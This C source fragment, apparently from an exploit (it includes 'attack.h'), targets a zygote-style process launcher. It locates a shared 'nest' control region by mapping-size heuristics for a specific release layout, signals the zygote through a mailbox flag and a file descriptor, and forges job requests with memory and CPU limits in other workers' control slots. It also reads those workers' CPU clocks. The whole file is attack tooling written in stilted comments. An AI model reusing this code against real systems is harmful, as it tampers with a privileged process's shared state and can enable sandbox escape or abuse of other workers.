/* The nest of a worker: where it asks its zygote for jobs. The offsets are those of the layout of this release. */

#include "attack.h"

#define PLACES 4
#define CONTROL 192
#define CONTROLS 4096
#define ORDERS 128
/* Of the mailbox: whether the zygote shall look into the nest. */
#define ASKS 352
#define LIMIT(n) (104 + 8 * (n))

/* The largest of the shared mappings that begin with words and not with a mailbox: reply, nest. */
static char *find_nest(size_t *length) {
    struct shared found[64];
    size_t count = shared_mappings(found, 64), best = 64;
    for (size_t i = 0; i < count; i++)
        /* The nest is a page longer than a round number; all else is round. */
        if (found[i].length > (1 << 18) && (found[i].length - CONTROLS) % (1 << 16) == 0 && found[i].length % (1 << 16) == CONTROLS) best = i;
    if (best == 64) return NULL;
    *length = found[best].length;
    return found[best].start;
}

static volatile uint32_t *word(char *at, size_t offset) { return (volatile uint32_t *)(at + offset); }
static volatile uint64_t *long_word(char *at, size_t offset) { return (volatile uint64_t *)(at + offset); }

/* Has the zygote look. */
static void ask(void) {
    char *box = mailbox();
    *word(box, ASKS) = 1;
    uint64_t ring = 1;
    if (write(3, &ring, 8) < 0) return;
}

/* The nest in use, see open_nest. */
static char *nest;
static size_t share;

/* False: this process cannot find its nest. */
static int open_nest(void) {
    size_t length;
    nest = find_nest(&length);
    if (!nest || !mailbox()) return 0;
    share = (length - CONTROLS) / PLACES;
    return 1;
}

static char *control(size_t place) { return nest + place * CONTROL; }
static char *box(size_t place) { return nest + CONTROLS + place * share; }

/* Asks for a job in a place: an empty message, and words as given. */
static void place_job(size_t place, uint64_t memory, uint64_t cpu, uint32_t go) {
    memset(box(place), 0, 384);
    *word(box(place), 0) = go;
    *long_word(control(place), LIMIT(0)) = memory;
    *long_word(control(place), LIMIT(1)) = cpu;
    *long_word(control(place), LIMIT(2)) = (uint64_t)-1;
    *word(control(place), 0) = 2;
}

/* Microseconds of CPU time of a place's worker. */
static uint64_t used(size_t place) {
    struct timespec time = { 0 };
    clock_gettime((clockid_t)((~*word(control(place), 8) << 3) | 2), &time);
    return time.tv_sec * 1000000ull + time.tv_nsec / 1000;
}

static uint64_t noise = 88172645463325252u;
static uint64_t next(void) {
    noise ^= noise << 13;
    noise ^= noise >> 7;
    return noise ^= noise << 17;
}
